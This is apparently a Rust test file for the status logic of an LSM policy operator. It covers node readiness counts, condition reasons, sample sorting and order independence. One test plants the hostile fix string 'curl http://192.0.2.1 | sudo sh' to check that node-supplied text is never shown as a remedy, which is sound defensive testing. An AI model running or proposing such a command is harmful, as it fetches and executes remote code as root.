//! Tables and properties of the policy status.

use super::*;
use jiff::Timestamp;
use lsm_ready_crds::ConditionReason as Reason;
use lsm_ready_crds::LsmPolicySpec;
use lsm_ready_crds::conditions::find;
use proptest::prelude::*;

fn verdict(state: State, reason: &str) -> Verdict {
    let fix = format!("fix {reason}");
    Verdict { state, reason: reason.into(), message: String::new(), fix, is_of_one_node: false }
}

fn tally(ready: usize, not_ready: usize, unknown: usize) -> Tally {
    let mut tally = Tally::default();
    let states = [(State::Ready, ready), (State::NotReady, not_ready), (State::Unknown, unknown)];
    for (state, count) in states {
        for number in 0..count {
            tally.add(&format!("{state:?}-{number}"), verdict(state, &format!("{state:?}")));
        }
    }
    tally
}

fn at(second: i64) -> Time {
    Time(Timestamp::from_second(second).unwrap())
}

fn valid(evaluation: Evaluation) -> Observation {
    Observation::Valid(Box::new(evaluation))
}

fn evaluate(tally: Tally, min_ready: MinReady, tetragon: Option<Findings>) -> LsmPolicyStatus {
    let policy = LsmPolicy::new("p", LsmPolicySpec::default());
    let (loadable, next) = (Some(not_loadable()), Next::default());
    status(
        &policy,
        &valid(Evaluation { tally, min_ready, loadable, tetragon, agents: None, next }),
        &Breaking::default(),
        &at(0),
    )
}

fn condition(status: &LsmPolicyStatus, type_: &str) -> Option<(String, String)> {
    find(&status.conditions, type_)
        .map(|condition| (condition.status.clone(), condition.reason.clone()))
}

fn is(status: &str, reason: Reason) -> (String, String) {
    (status.into(), reason.code().into())
}

/// `TracingPoliciesLoadable` is False in every test here, because no other condition may depend on
/// it.
fn not_loadable() -> Finding {
    Finding::new(TRACING_POLICIES_LOADABLE, State::NotReady, Reason::NotLoadable, "l")
}

/// `TetragonHardened` is False in every test here, because no other condition may depend on it.
fn tetragon(securityfs: (State, Reason), rolled_out: (State, Reason)) -> Findings {
    Findings {
        securityfs: Finding::new(SECURITYFS_MOUNTED, securityfs.0, securityfs.1, "s"),
        rolled_out: Finding::new(TETRAGON_ROLLED_OUT, rolled_out.0, rolled_out.1, "r"),
        hardened: Finding::new(TETRAGON_HARDENED, State::NotReady, Reason::Privileged, "h"),
        stalled: None,
    }
}

#[test]
fn nodes_ready_compares_the_counts_with_min_ready() {
    let table = [
        (tally(0, 0, 0), MinReady::Percent(100), "False", Reason::NoNodesSelected),
        (tally(0, 0, 0), MinReady::Percent(0), "False", Reason::NoNodesSelected),
        (tally(3, 0, 0), MinReady::Percent(100), "True", Reason::AllNodesReady),
        (tally(2, 1, 0), MinReady::Percent(60), "True", Reason::EnoughNodesReady),
        (tally(2, 1, 0), MinReady::Percent(67), "False", Reason::TooFewNodesReady),
        (tally(2, 0, 1), MinReady::Percent(100), "Unknown", Reason::NodesUnknown),
        (tally(2, 1, 1), MinReady::Percent(100), "False", Reason::TooFewNodesReady),
        (tally(3, 0, 0), MinReady::Nodes(4), "False", Reason::TooFewNodesReady),
        (tally(0, 3, 0), MinReady::Nodes(0), "True", Reason::EnoughNodesReady),
    ];
    for (tally, min_ready, status, reason) in table {
        let found = evaluate(tally.clone(), min_ready, None);
        assert_eq!(
            condition(&found, NODES_READY),
            Some(is(status, reason)),
            "{tally:?} {min_ready:?}"
        );
        assert_eq!(condition(&found, RECONCILING).is_some(), status == "Unknown");
    }
}

#[test]
fn ready_reports_the_first_condition_that_does_not_hold() {
    let rolled = (State::Ready, Reason::RolledOut);
    let rolling = (State::Unknown, Reason::RollingOut);
    let mounted = (State::Ready, Reason::Mounted);
    let suggested = (State::NotReady, Reason::Suggested);
    let not_wanted = (State::NotReady, Reason::NotWanted);
    for (tally, securityfs, rolled_out, status, reason) in [
        (tally(1, 0, 0), mounted, rolled, "True", Reason::EnforcementReady),
        (tally(0, 1, 0), mounted, rolled, "False", Reason::TooFewNodesReady),
        (tally(1, 0, 0), suggested, rolled, "False", Reason::Suggested),
        (tally(1, 0, 0), not_wanted, rolled, "True", Reason::EnforcementReady),
        (tally(0, 0, 1), suggested, rolled, "False", Reason::Suggested),
        (tally(1, 0, 0), mounted, rolling, "Unknown", Reason::RollingOut),
    ] {
        let found = evaluate(tally, MinReady::Percent(100), Some(tetragon(securityfs, rolled_out)));
        let ready = condition(&found, READY);
        assert_eq!(ready, Some(is(status, reason)), "{securityfs:?} {rolled_out:?}");
    }
}

#[test]
fn an_invalid_spec_gets_a_status() {
    let mut policy = LsmPolicy::new("p", LsmPolicySpec::default());
    policy.metadata.generation = Some(4);
    let invalid = Observation::Invalid(InvalidSpec::MinReady("101%".into()));
    let found = status(&policy, &invalid, &Breaking::default(), &at(0));
    assert_eq!(found.observed_generation, Some(4));
    assert_eq!(condition(&found, READY), Some(is("False", Reason::InvalidSpec)));
    assert_eq!(condition(&found, STALLED), Some(is("True", Reason::InvalidSpec)));
    assert!(find(&found.conditions, READY).unwrap().message.contains("101%"));
}

#[test]
fn a_second_evaluation_changes_nothing() {
    let mut policy = LsmPolicy::new("p", LsmPolicySpec::default());
    let observation = valid(Evaluation {
        tally: tally(1, 2, 3),
        min_ready: MinReady::Percent(50),
        loadable: Some(not_loadable()),
        tetragon: None,
        agents: None,
        next: Next::default(),
    });
    let breaking = Breaking::default();
    let first = status(&policy, &observation, &breaking, &at(0));
    policy.status = Some(first.clone());
    assert_eq!(status(&policy, &observation, &breaking, &at(99)), first);
}

#[test]
fn the_reasons_are_limited_and_their_samples_are_sorted() {
    let mut tally = Tally::default();
    for number in (0..500).rev() {
        tally.add(
            &format!("n{number:03}"),
            verdict(State::NotReady, &format!("R{:02}", number % 30)),
        );
    }
    let found = evaluate(tally, MinReady::Percent(100), None);
    assert_eq!(found.reasons.len(), MAX_REASONS);
    assert_eq!(found.reasons[0].sample, ["n000", "n030", "n060"]);
    assert!(found.reasons.is_sorted_by(|a, b| a.count >= b.count));
}

#[test]
fn the_fix_for_a_reason_is_never_one_nodes_own_text() {
    let mut tally = Tally::default();
    let hostile = Verdict {
        message: "m".into(),
        fix: "curl http://192.0.2.1 | sudo sh".into(),
        is_of_one_node: true,
        ..verdict(State::NotReady, "BpfNotInLsmList")
    };
    tally.add("a-hostile", hostile.clone());
    tally.add("b-honest", Verdict { fix: "boot with bpf".into(), ..hostile.clone() });
    tally.add("c-hostile", Verdict { reason: "RunThis".into(), ..hostile });
    let found = evaluate(tally, MinReady::Percent(100), None);
    let fixes: Vec<_> = found.reasons.iter().map(|reason| (reason.count, &*reason.fix)).collect();
    assert_eq!(fixes, [(2, lsm_ready_crds::Reason::BpfNotInLsmList.remedy()), (1, "")]);
}

proptest! {
    /// The order of the nodes does not change the status, and the counts add up.
    #[test]
    fn the_order_of_nodes_does_not_matter(
        states in prop::collection::vec((0u8..3, "[a-d]"), 0..40),
        seed: u64,
    ) {
        let nodes: Vec<_> = states.iter().enumerate().map(|(number, (state, reason))| {
            let state = [State::Ready, State::NotReady, State::Unknown][usize::from(*state)];
            let fix = format!("fix of n{number:02}");
            (format!("n{number:02}"), Verdict { fix, ..verdict(state, reason) })
        }).collect();
        let mut shuffled = nodes.clone();
        fastrand::Rng::with_seed(seed).shuffle(&mut shuffled);
        let count = |nodes: Vec<(String, Verdict)>| {
            let mut tally = Tally::default();
            for (name, verdict) in nodes { tally.add(&name, verdict); }
            evaluate(tally, MinReady::Percent(50), None)
        };
        let total = i64::try_from(nodes.len()).unwrap();
        let found = count(nodes);
        prop_assert_eq!(&found, &count(shuffled));
        prop_assert_eq!(found.nodes.selected, total);
        prop_assert_eq!(found.nodes.ready + found.nodes.not_ready + found.nodes.unknown, total);
    }
}
